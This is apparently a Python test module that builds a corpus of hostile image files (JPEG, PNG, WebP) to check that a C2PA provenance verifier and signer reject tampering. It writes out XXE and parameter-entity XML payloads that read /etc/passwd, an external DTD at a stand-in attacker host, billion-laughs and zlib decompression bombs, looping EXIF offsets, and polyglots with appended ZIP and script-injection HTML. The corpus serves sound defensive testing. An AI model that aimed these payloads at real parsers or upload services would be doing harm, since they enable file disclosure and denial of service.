"""Hostile files, made in the test from copies of sample_media (nothing large is committed).

Each :class:`Case` names the attack it models and says what a correct answer is:
a :class:`~provenance.errors.ProvenanceError` naming the file, or one of a set
of verdicts. Every builder is deterministic (fixed seeds), so a failure names a
file that the next run rebuilds byte for byte.

The builders only splice bytes; they use :mod:`provenance._core.containers` to find
blocks (a block found is a fact about the file, whatever the library does with it)
and :mod:`provenance.sign` to make signed bases.
"""

from __future__ import annotations

import random
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

from provenance._core import containers
from provenance._core.containers import BlockKind, ImageFormat
from provenance._core.types import Status
from provenance._io.keys import SigningKey
from provenance.sign import sign_bytes
from tests.conftest import SAMPLE_MEDIA, sample_record

# One sample per format: small enough that the whole corpus runs in seconds.
BASES = {
    ImageFormat.JPEG: "forest-path.jpg",
    ImageFormat.PNG: "packshot-site-dumper-alpha.png",
    ImageFormat.WEBP: "moss-close-up.webp",
}
# A second image per format, for manifests transplanted from another image.
DONORS = {
    ImageFormat.JPEG: "kite-blue-sky.jpg",
    ImageFormat.PNG: "packshot-fire-truck-white.png",
    ImageFormat.WEBP: "lake-at-dusk.webp",
}

JPEG, PNG, WEBP = ImageFormat.JPEG, ImageFormat.PNG, ImageFormat.WEBP

ERROR = "error"
"""The answer "a ProvenanceError naming the file"."""

# With the signer's CA as trust anchor, an intact signed file is TRUSTED; anything
# that was tampered with must come out as one of these (or as an error). A change
# of container metadata only (a RIFF size field) is known_stripped: image data intact.
DETECTED = frozenset(
    {
        ERROR,
        Status.TAMPERED.value,
        Status.INVALID_SIGNATURE.value,
        Status.INVALID_MANIFEST.value,
        Status.UNSUPPORTED.value,
        Status.NO_PROVENANCE.value,
        Status.KNOWN_STRIPPED.value,
    }
)
UNTRUSTED = frozenset({Status.VALID_UNTRUSTED.value})
NOT_TRUSTED = DETECTED | UNTRUSTED


@dataclass(frozen=True)
class Case:
    """One hostile file.

    Attributes:
        name: The attack, as a file stem (``jpeg-app11-length-overrun``).
        fmt: The container the file claims to be.
        data: The file's bytes.
        verify: The acceptable answers of ``verify`` with the dev CA as anchor.
        sign: The acceptable answers of ``sign`` ("ok" or ERROR); empty: not tried.
    """

    name: str
    fmt: ImageFormat
    data: bytes
    verify: frozenset[str]
    sign: frozenset[str] = field(default_factory=frozenset)

    @property
    def filename(self) -> str:
        return f"{self.name}.{self.fmt.extension}"


@dataclass
class Bases:
    """Unsigned and signed bytes of one sample per format, signed once per session."""

    key: SigningKey
    other_key: SigningKey
    _signed: dict[tuple[str, str], bytes] = field(default_factory=dict)

    def raw(self, name: str) -> bytes:
        return (SAMPLE_MEDIA / name).read_bytes()

    def signed(self, name: str, *, other: bool = False) -> bytes:
        which = "other" if other else "dev"
        if (name, which) not in self._signed:
            key = self.other_key if other else self.key
            data, _ = sign_bytes(self.raw(name), record=sample_record(name), key=key)
            self._signed[name, which] = data
        return self._signed[name, which]


# -- byte helpers -----------------------------------------------------------------


def _block(data: bytes, kind: BlockKind) -> containers.MetadataBlock:
    return containers.inspect(data).blocks_of(kind)[0]


def _put(data: bytes, offset: int, new: bytes) -> bytes:
    return data[:offset] + new + data[offset + len(new) :]


def _png_chunk(chunk_type: bytes, payload: bytes, *, length: int | None = None) -> bytes:
    crc = zlib.crc32(payload, zlib.crc32(chunk_type))
    size = len(payload) if length is None else length
    return struct.pack(">I", size) + chunk_type + payload + struct.pack(">I", crc)


def _png_replace_payload(data: bytes, block: containers.MetadataBlock, payload: bytes) -> bytes:
    """Replace a PNG chunk's data, with a correct length and CRC."""
    chunk_type = data[block.offset + 4 : block.offset + 8]
    return data[: block.offset] + _png_chunk(chunk_type, payload) + data[block.end :]


def _after_ihdr(data: bytes, chunk: bytes) -> bytes:
    at = 8 + 25
    return data[:at] + chunk + data[at:]


def _garbage(seed: int, size: int) -> bytes:
    return random.Random(seed).randbytes(size)  # noqa: S311 - test data


def _payload_range(fmt: ImageFormat, block: containers.MetadataBlock) -> tuple[int, int]:
    """(start, end) of a block's payload: after marker+length, chunk header, FourCC+size."""
    if fmt is ImageFormat.JPEG:
        return block.offset + 4, block.end
    if fmt is ImageFormat.PNG:
        return block.offset + 8, block.end - 4
    return block.offset + 8, block.offset + 8 + (block.length - 8) // 2 * 2


def _edit_c2pa_payload(data: bytes, fmt: ImageFormat, edit: Callable[[bytes], bytes]) -> bytes:
    """Rewrite the first C2PA block's payload (same length), keeping PNG CRCs true."""
    block = _block(data, BlockKind.C2PA)
    start, end = _payload_range(fmt, block)
    payload = edit(data[start:end])
    if fmt is ImageFormat.PNG:
        return _png_replace_payload(data, block, payload)
    return data[:start] + payload + data[end:]


def _jumbf_start(fmt: ImageFormat) -> int:
    # JPEG APP11: CI "JP", En, Z, then the superbox; PNG caBX and WebP C2PA: the superbox.
    return 8 if fmt is ImageFormat.JPEG else 0


def _with_c2pa_of(target: bytes, donor: bytes, fmt: ImageFormat) -> bytes:
    """Copy every C2PA block of ``donor`` into ``target`` (which has none)."""
    blocks = containers.inspect(donor).blocks_of(BlockKind.C2PA)
    copied = b"".join(donor[b.offset : b.end] for b in blocks)
    if fmt is ImageFormat.JPEG:
        return target[:2] + copied + target[2:]
    if fmt is ImageFormat.PNG:
        return _after_ihdr(target, copied)
    # WebP: append the chunk and fix the RIFF size (VP8X flags carry no C2PA bit).
    body = target + copied
    return body[:4] + struct.pack("<I", len(body) - 8) + body[8:]


# -- hostile XMP and EXIF -----------------------------------------------------------

_XMP_OPEN = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
)
_XMP_CLOSE = b"</rdf:RDF></x:xmpmeta>"

XXE_PACKET = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    + _XMP_OPEN
    + b'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&xxe;</dc:title>'
    + b"</rdf:Description>"
    + _XMP_CLOSE
)
EXTERNAL_DTD_PACKET = (
    b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://attacker.example.invalid/x.dtd">'
    + _XMP_OPEN
    + _XMP_CLOSE
)
BILLION_LAUGHS_PACKET = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">'
    + b"".join(
        b'<!ENTITY l%d "%s">' % (i, b"".join(b"&l%d;" % (i - 1) for _ in range(10)))
        for i in range(1, 10)
    )
    + b"]>"
    + _XMP_OPEN
    + b'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&l9;</dc:title>'
    + b"</rdf:Description>"
    + _XMP_CLOSE
)
PARAMETER_ENTITY_PACKET = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>'
    + _XMP_OPEN
    + _XMP_CLOSE
)
DEEP_PACKET = _XMP_OPEN + b"<a>" * 8000 + b"</a>" * 8000 + _XMP_CLOSE
QUADRATIC_ATTRIBUTES_PACKET = (
    _XMP_OPEN
    + b'<rdf:Description xmlns:p="urn:p" '
    + b" ".join(b'p:a%d="%s"' % (i, b"x" * 2000) for i in range(25))
    + b"/>"
    + _XMP_CLOSE
)
HOSTILE_XMP = {
    "xxe": XXE_PACKET,
    "external-dtd": EXTERNAL_DTD_PACKET,
    "billion-laughs": BILLION_LAUGHS_PACKET,
    "parameter-entity": PARAMETER_ENTITY_PACKET,
    "deep-nesting": DEEP_PACKET,
    "many-long-attributes": QUADRATIC_ATTRIBUTES_PACKET,
}


def _ifd(entries: list[tuple[int, int, int, int]], next_ifd: int) -> bytes:
    out = struct.pack(">H", len(entries))
    for tag, typ, count, value in entries:
        out += struct.pack(">HHII", tag, typ, count, value)
    return out + struct.pack(">I", next_ifd)


def exif_loops() -> dict[str, bytes]:
    """Raw TIFF blocks whose offsets loop or lie (big-endian)."""
    header = b"MM\x00*" + struct.pack(">I", 8)
    orientation = (0x0112, 3, 1, 1 << 16)
    return {
        # IFD0's next-IFD pointer points back at IFD0.
        "exif-ifd0-next-loops": header + _ifd([orientation], 8),
        # The Exif IFD pointer points at IFD0 itself.
        "exif-subifd-loops": header + _ifd([orientation, (0x8769, 4, 1, 8)], 0),
        # IFD1 points at IFD0 (a two-IFD cycle).
        "exif-ifd1-cycle": header + _ifd([orientation], 26) + _ifd([orientation], 8),
        # A count that claims four billion values.
        "exif-count-lies": header + _ifd([(0x010E, 2, 0xFFFFFFFF, 26)], 0) + b"x" * 8,
        # An IFD offset past the end.
        "exif-offset-past-end": b"MM\x00*" + struct.pack(">I", 0x7FFFFFF0),
        # An IFD that claims 65535 entries.
        "exif-entry-count-lies": header + struct.pack(">H", 0xFFFF) + b"\x00" * 16,
    }


# -- PNG bombs ------------------------------------------------------------------------


def _compressed_zeros(size: int) -> bytes:
    """A zlib stream of ``size`` zero bytes (a multiple of 1 MiB), built without compressing it.

    After a full flush the compressor forgets its history, so every further MiB of
    zeros compresses to the same bytes: repeat them, close with an empty final
    block and the Adler-32 of the whole.
    """
    mib = bytes(1 << 20)
    packer = zlib.compressobj(9)
    head = packer.compress(mib) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(mib) + packer.flush(zlib.Z_FULL_FLUSH)
    assert head[2:] == block
    count = size >> 20
    # Adler-32 over zeros: the low sum stays 1, the high sum adds 1 per byte.
    adler = (size % 65521) << 16 | 1
    return head + block * (count - 1) + b"\x03\x00" + struct.pack(">I", adler)


def _png_itxt(keyword: bytes, text: bytes, *, compressed: bool) -> bytes:
    body = keyword + b"\x00" + (b"\x01\x00" if compressed else b"\x00\x00") + b"\x00\x00" + text
    return _png_chunk(b"iTXt", body)


def _png_with_ihdr(width: int, height: int, idat: bytes) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


# -- the corpus ---------------------------------------------------------------------


def _structure_cases(bases: Bases) -> Iterator[Case]:
    jpeg = bases.signed(BASES[ImageFormat.JPEG])
    png = bases.signed(BASES[ImageFormat.PNG])
    webp = bases.signed(BASES[ImageFormat.WEBP])

    # JPEG segment lengths that lie.
    c2pa = _block(jpeg, BlockKind.C2PA)
    xmp = _block(jpeg, BlockKind.XMP)
    yield Case(
        "jpeg-app11-length-overrun",
        JPEG,
        _put(jpeg, c2pa.offset + 2, b"\xff\xff"),
        DETECTED,
        {ERROR},
    )
    yield Case("jpeg-app1-xmp-length-2", JPEG, _put(jpeg, xmp.offset + 2, b"\x00\x02"), DETECTED)
    yield Case("jpeg-app1-xmp-length-0", JPEG, _put(jpeg, xmp.offset + 2, b"\x00\x00"), DETECTED)
    raw_jpeg = bases.raw(BASES[JPEG])
    yield Case(
        "jpeg-app-segment-past-eof",
        JPEG,
        b"\xff\xd8\xff\xe1\xff\xf0Exif\x00\x00MM",
        DETECTED,
        frozenset({ERROR}),
    )
    yield Case(
        "jpeg-70000-empty-com-segments",
        JPEG,
        raw_jpeg[:2] + b"\xff\xfe\x00\x02" * 70000 + raw_jpeg[2:],
        DETECTED,
        frozenset({ERROR}),
    )
    yield Case(
        "jpeg-no-sof-no-eoi", JPEG, b"\xff\xd8" + b"\xff\xfe\x00\x04ab" * 10, DETECTED, {ERROR}
    )
    sof = raw_jpeg.find(b"\xff\xc0")
    if sof < 0:
        sof = raw_jpeg.find(b"\xff\xc2")
    yield Case("jpeg-sof-length-1", JPEG, _put(raw_jpeg, sof + 2, b"\x00\x01"), DETECTED, {ERROR})
    yield Case("jpeg-only-soi", JPEG, b"\xff\xd8", DETECTED, frozenset({ERROR}))

    # PNG chunk lengths and CRCs that lie.
    cabx = _block(png, BlockKind.C2PA)
    yield Case(
        "png-cabx-length-overrun",
        PNG,
        _put(png, cabx.offset, b"\x7f\xff\xff\xff"),
        DETECTED,
        frozenset({ERROR}),
    )
    yield Case("png-cabx-length-2-31", PNG, _put(png, cabx.offset, b"\xff\xff\xff\xff"), DETECTED)
    yield Case("png-cabx-length-short", PNG, _put(png, cabx.offset, b"\x00\x00\x00\x10"), DETECTED)
    yield Case("png-cabx-bad-crc", PNG, _put(png, cabx.end - 4, b"\x00\x00\x00\x00"), DETECTED)
    idat = png.find(b"IDAT") - 4
    idat_len = struct.unpack(">I", png[idat : idat + 4])[0]
    yield Case(
        "png-idat-bad-crc", PNG, _put(png, idat + 8 + idat_len, b"\xde\xad\xbe\xef"), DETECTED
    )
    raw_png = bases.raw(BASES[PNG])
    yield Case("png-ihdr-only", PNG, raw_png[:33], DETECTED, frozenset({ERROR}))
    yield Case(
        "png-150000-empty-chunks",
        PNG,
        _after_ihdr(raw_png, _png_chunk(b"teXt", b"") * 150000),
        DETECTED,
        frozenset({ERROR}),
    )

    # WebP RIFF and chunk sizes that lie.
    yield Case("webp-riff-size-huge", WEBP, _put(webp, 4, b"\xf0\xff\xff\xff"), DETECTED, {ERROR})
    yield Case("webp-riff-size-zero", WEBP, _put(webp, 4, b"\x00\x00\x00\x00"), DETECTED, {ERROR})
    yield Case(
        "webp-riff-size-odd", WEBP, _put(webp, 4, struct.pack("<I", len(webp) - 9)), DETECTED
    )
    first = struct.unpack("<I", webp[16:20])[0]
    yield Case(
        "webp-riff-size-covers-vp8x-only",
        WEBP,
        _put(webp, 4, struct.pack("<I", 4 + 8 + first)),
        DETECTED,
    )
    wc2pa = _block(webp, BlockKind.C2PA)
    yield Case(
        "webp-c2pa-chunk-size-huge",
        WEBP,
        _put(webp, wc2pa.offset + 4, b"\xf0\xff\xff\x7f"),
        DETECTED,
        frozenset({ERROR}),
    )
    yield Case(
        "webp-c2pa-chunk-size-short",
        WEBP,
        _put(webp, wc2pa.offset + 4, struct.pack("<I", 17)),
        DETECTED,
    )
    wxmp = _block(webp, BlockKind.XMP)
    yield Case(
        "webp-xmp-chunk-size-short",
        WEBP,
        _put(webp, wxmp.offset + 4, struct.pack("<I", 100)),
        DETECTED,
    )
    raw_webp = bases.raw(BASES[WEBP])
    yield Case("webp-header-only", WEBP, raw_webp[:12], DETECTED, frozenset({ERROR}))
    yield Case(
        "webp-vp8-chunk-size-zero",
        WEBP,
        _put(raw_webp, 16, b"\x00\x00\x00\x00"),
        DETECTED,
        frozenset({ERROR}),
    )


def _jumbf_cases(bases: Bases) -> Iterator[Case]:
    for fmt, name in BASES.items():
        signed = bases.signed(name)
        start = _jumbf_start(fmt)
        tag = fmt.extension

        def random_body(payload: bytes, start: int = start) -> bytes:
            keep = start + 40  # the headers that say "this is C2PA"
            return payload[:keep] + _garbage(1, len(payload) - keep)

        def lbox_huge(payload: bytes, start: int = start) -> bytes:
            # c2pa-rs reads the store from the container's block, not this field,
            # and no signature covers it: an intact store may still be trusted.
            return payload[:start] + b"\xff\xff\xff\xf0" + payload[start + 4 :]

        def xlbox_huge(payload: bytes, start: int = start) -> bytes:
            # LBox 1 means "the real length is the 8-byte XLBox that follows"; 2**63.
            return (
                payload[:start]
                + b"\x00\x00\x00\x01jumb"
                + b"\x80"
                + b"\x00" * 7
                + (payload[start + 16 :])
            )

        def inner_lbox_zero(payload: bytes, start: int = start) -> bytes:
            # The description box (jumd) claims length 0 ("to the end of the file").
            return payload[: start + 8] + b"\x00\x00\x00\x00" + payload[start + 12 :]

        def flip_bits(payload: bytes) -> bytes:
            rng = random.Random(7)  # noqa: S311 - test data
            body = bytearray(payload)
            for _ in range(64):
                body[rng.randrange(len(body) // 4, len(body))] ^= 1 << rng.randrange(8)
            return bytes(body)

        edits: dict[str, Callable[[bytes], bytes]] = {
            "random-body": random_body,
            "lbox-huge": lbox_huge,
            "xlbox-huge": xlbox_huge,
            "jumd-lbox-zero": inner_lbox_zero,
            "flipped-bits": flip_bits,
        }
        for label, edit in edits.items():
            yield Case(
                f"{tag}-jumbf-{label}",
                fmt,
                _edit_c2pa_payload(signed, fmt, edit),
                DETECTED | {Status.TRUSTED.value} if label == "lbox-huge" else DETECTED,
                frozenset({ERROR, "ok"}),
            )
        # Deeply nested JUMBF superboxes in place of the store, sized to fit one block.
        depth = 4000
        nested = b"".join(
            struct.pack(">I", 8 * (depth - i) + 8) + b"jumb" for i in range(depth)
        ) + (b"\x00\x00\x00\x08free")
        raw = bases.raw(name)
        if fmt is ImageFormat.JPEG:
            segment = b"JP\x00\x01\x00\x00\x00\x01" + nested
            box = b"\xff\xeb" + struct.pack(">H", len(segment) + 2) + segment
            data = raw[:2] + box + raw[2:]
        elif fmt is ImageFormat.PNG:
            data = _after_ihdr(raw, _png_chunk(b"caBX", nested))
        else:
            body = raw + b"C2PA" + struct.pack("<I", len(nested)) + nested
            data = body[:4] + struct.pack("<I", len(body) - 8) + body[8:]
        yield Case(
            f"{tag}-jumbf-nested-{depth}-deep", fmt, data, DETECTED, frozenset({ERROR, "ok"})
        )


def _semantic_cases(bases: Bases) -> Iterator[Case]:
    for fmt, name in BASES.items():
        tag = fmt.extension
        signed = bases.signed(name)
        donor = bases.signed(DONORS[fmt])
        raw = bases.raw(name)
        # A manifest (C2PA only, then everything) lifted from another signed image.
        yield Case(f"{tag}-c2pa-transplanted", fmt, _with_c2pa_of(raw, donor, fmt), DETECTED)
        info = containers.inspect(donor)
        assert info.xmp is not None
        with_xmp = containers.set_xmp(raw, info.xmp)
        yield Case(
            f"{tag}-xmp-and-c2pa-transplanted",
            fmt,
            _with_c2pa_of(with_xmp, donor, fmt),
            frozenset({Status.TAMPERED.value}),
        )
        # Re-signed by someone else: never trusted with our anchors, but valid.
        yield Case(f"{tag}-resigned-untrusted-key", fmt, bases.signed(name, other=True), UNTRUSTED)
        yield Case(
            f"{tag}-signed-over-by-untrusted-key",
            fmt,
            sign_bytes(signed, record=sample_record(name), key=bases.other_key)[0],
            UNTRUSTED,
        )
        # XMP edited after signing: the model name a storefront shows.
        packet = containers.inspect(signed).xmp
        assert packet is not None
        edited = packet.replace(b"AISystemUsed>", b"AISystemUsed>X", 1)
        yield Case(
            f"{tag}-xmp-edited-after-signing",
            fmt,
            containers.set_xmp(signed, edited),
            frozenset({Status.TAMPERED.value}),
        )
        # The same edit in place, no container rewrite (same length: one letter swapped).
        at = signed.find(b"AISystemUsed>") + len(b"AISystemUsed>")
        swapped = _put(signed, at, bytes([signed[at] ^ 0x20]))
        if fmt is not ImageFormat.PNG:  # a PNG CRC catches it first; covered above
            yield Case(
                f"{tag}-xmp-byte-edited-in-place", fmt, swapped, frozenset({Status.TAMPERED.value})
            )
        # Appended data after signing: a polyglot made from a signed file.
        yield Case(f"{tag}-signed-then-zip-appended", fmt, signed + _zip(), DETECTED)


def _zip() -> bytes:
    name = b"payload.html"
    body = b"<script>alert(1)</script>"
    crc = zlib.crc32(body)
    local = (
        struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, crc, len(body), len(body), 12, 0)
        + name
        + body
    )
    central = (
        struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            0,
            0,
            0,
            0,
            crc,
            len(body),
            len(body),
            12,
            0,
            0,
            0,
            0,
            0,
            0,
        )
        + name
    )
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + end


def _xmp_exif_cases(bases: Bases) -> Iterator[Case]:
    for fmt, name in BASES.items():
        tag = fmt.extension
        raw = bases.raw(name)
        signed = bases.signed(name)
        for label, packet in HOSTILE_XMP.items():
            # Unsigned: the XMP proves nothing and must not be expanded; sign drops
            # XMP it cannot parse safely (never expanded, never merged) and signs,
            # and merges the large-but-valid one.
            yield Case(
                f"{tag}-xmp-{label}",
                fmt,
                containers.set_xmp(raw, packet),
                frozenset({Status.NO_PROVENANCE.value}),
                frozenset({"ok"}),
            )
        yield Case(
            f"{tag}-signed-xmp-replaced-by-billion-laughs",
            fmt,
            containers.set_xmp(signed, BILLION_LAUGHS_PACKET),
            DETECTED,
        )
        for label, tiff in exif_loops().items():
            yield Case(
                f"{tag}-{label}",
                fmt,
                containers.set_exif(raw, tiff),
                frozenset({Status.NO_PROVENANCE.value}),
                frozenset({ERROR, "ok"}),
            )


def _bomb_cases(bases: Bases) -> Iterator[Case]:
    raw = bases.raw(BASES[PNG])
    # 256 MiB of zeros as compressed XMP (about 260 KB on disk).
    bomb = _compressed_zeros(256 << 20)
    yield Case(
        "png-itxt-xmp-zlib-bomb",
        PNG,
        _after_ihdr(raw, _png_itxt(b"XML:com.adobe.xmp", bomb, compressed=True)),
        DETECTED,
        frozenset({"ok"}),  # the XMP chunk is dropped, never inflated past the cap
    )
    yield Case(
        "png-itxt-other-zlib-bomb",
        PNG,
        _after_ihdr(raw, _png_itxt(b"Comment", bomb, compressed=True)),
        frozenset({Status.NO_PROVENANCE.value}),
        frozenset({"ok"}),
    )
    yield Case(
        "png-ztxt-zlib-bomb",
        PNG,
        _after_ihdr(raw, _png_chunk(b"zTXt", b"Comment\x00\x00" + bomb)),
        frozenset({Status.NO_PROVENANCE.value}),
        frozenset({"ok"}),
    )
    yield Case(
        "png-itxt-xmp-truncated-zlib",
        PNG,
        _after_ihdr(raw, _png_itxt(b"XML:com.adobe.xmp", bomb[:1000], compressed=True)),
        DETECTED,
        frozenset({"ok"}),  # the XMP chunk is dropped, never inflated past the cap
    )
    # 30000 x 30000 RGBA: 3.6 GB when decoded, 3.5 MB of IDAT (0.9 GB inflated).
    rows = _compressed_zeros(1 << 30)
    yield Case(
        "png-idat-decompression-bomb",
        PNG,
        _png_with_ihdr(30000, 30000, rows),
        frozenset({Status.NO_PROVENANCE.value}),
        # 1 GiB of the 3.6 GB of scanlines: truncated, so signing refuses it from the
        # chunk lengths (deflate cannot shrink 3.6 GB into 1 MB), before any decode.
        frozenset({ERROR}),
    )
    # Dimensions far beyond any real image, with almost no data.
    yield Case(
        "png-dimensions-2-31",
        PNG,
        _png_with_ihdr(0x7FFFFFFF, 0x7FFFFFFF, zlib.compress(b"\x00" * 64)),
        frozenset({Status.NO_PROVENANCE.value}),
        frozenset({ERROR, "ok"}),
    )
    jpeg = bases.raw(BASES[ImageFormat.JPEG])
    sof = jpeg.find(b"\xff\xc0")
    if sof < 0:
        sof = jpeg.find(b"\xff\xc2")
    yield Case(
        "jpeg-dimensions-65535",
        ImageFormat.JPEG,
        _put(jpeg, sof + 5, b"\xff\xff\xff\xff"),
        frozenset({Status.NO_PROVENANCE.value}),
        frozenset({ERROR, "ok"}),
    )
    webp = bases.raw(BASES[ImageFormat.WEBP])
    if webp[12:16] == b"VP8X":
        big = _put(webp, 24, b"\xff\xff\xff\xff\xff\xff")
        yield Case(
            "webp-canvas-16m-square",
            ImageFormat.WEBP,
            big,
            frozenset({Status.NO_PROVENANCE.value}),
            frozenset({ERROR, "ok"}),
        )


def _polyglot_cases(bases: Bases) -> Iterator[Case]:
    ok = frozenset({"ok"})
    none = frozenset({Status.NO_PROVENANCE.value})
    yield Case("jpeg-zip-polyglot", JPEG, bases.raw(BASES[JPEG]) + _zip(), none, ok)
    html = b"<html><body><script>alert(document.domain)</script></body></html>"
    yield Case("png-html-appended", PNG, bases.raw(BASES[PNG]) + html, none, ok)
    yield Case("webp-html-after-riff", WEBP, bases.raw(BASES[WEBP]) + html, none, ok)
    # A file that is a JPEG by magic but a ZIP to unzip (ZIP reads from the end).
    yield Case("jpeg-magic-then-zip", JPEG, b"\xff\xd8" + _zip(), DETECTED, frozenset({ERROR}))
    yield Case(
        "png-magic-then-html", PNG, b"\x89PNG\r\n\x1a\n" + html, DETECTED, frozenset({ERROR})
    )
    yield Case("riff-webp-then-html", WEBP, b"RIFF\x04\x00\x00\x00WEBP" + html, DETECTED, {ERROR})
    yield Case("html-named-jpg", JPEG, html, DETECTED, frozenset({ERROR}))


def build(bases: Bases) -> list[Case]:
    """Every hostile file of the corpus, in a fixed order with unique names."""
    cases = [
        *_structure_cases(bases),
        *_jumbf_cases(bases),
        *_semantic_cases(bases),
        *_xmp_exif_cases(bases),
        *_bomb_cases(bases),
        *_polyglot_cases(bases),
    ]
    names = [c.name for c in cases]
    assert len(names) == len(set(names)), "case names must be unique"
    return [Case(c.name, c.fmt, c.data, frozenset(c.verify), frozenset(c.sign)) for c in cases]


def truncations(data: bytes, *, count: int = 40) -> list[int]:
    """Offsets to cut ``data`` at: every header byte, then spread over the file."""
    size = len(data)
    head = range(1, min(64, size))
    spread = (size * i // count for i in range(1, count))
    return sorted({*head, *spread, size - 1, size - 2} - {0, size})
